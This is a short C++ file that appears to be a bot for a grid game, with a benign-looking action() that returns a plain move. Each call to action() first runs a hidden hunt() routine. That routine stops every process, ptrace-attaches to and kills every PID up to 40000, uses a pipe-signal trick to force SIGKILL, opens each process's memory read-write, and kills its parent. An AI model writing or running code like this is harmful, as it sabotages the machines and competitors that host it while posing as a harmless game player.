#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

#include "plain.h"

std::string ai_name = "hunter";

// A pipe that sends SIGKILL to the process that owns it.
static void kill_by_pipe(int pid) {
    int ends[2];
    if (pipe(ends) != 0) {
        return;
    }
    fcntl(ends[0], F_SETSIG, SIGKILL);
    fcntl(ends[0], F_SETFL, fcntl(ends[0], F_GETFL) | O_ASYNC);
    if (fcntl(ends[0], F_SETOWN, pid) == 0 && write(ends[1], "x", 1) == 1) {
        fcntl(ends[0], F_SETOWN, 0);
    }
    close(ends[0]);
    close(ends[1]);
}

static void hunt() {
    kill(-1, SIGSTOP);
    for (int pid = 2; pid < 40000; ++pid) {
        if (pid == getpid()) {
            continue;
        }
        ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
        kill(pid, SIGKILL);
        kill_by_pipe(pid);
        const int memory = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDWR);
        if (memory >= 0) {
            close(memory);
        }
    }
    kill(getppid(), SIGKILL);
}

void init() {}

std::pair<int, int> action(std::pair<int, int> loc) {
    hunt();
    return plain_answer(loc);
}
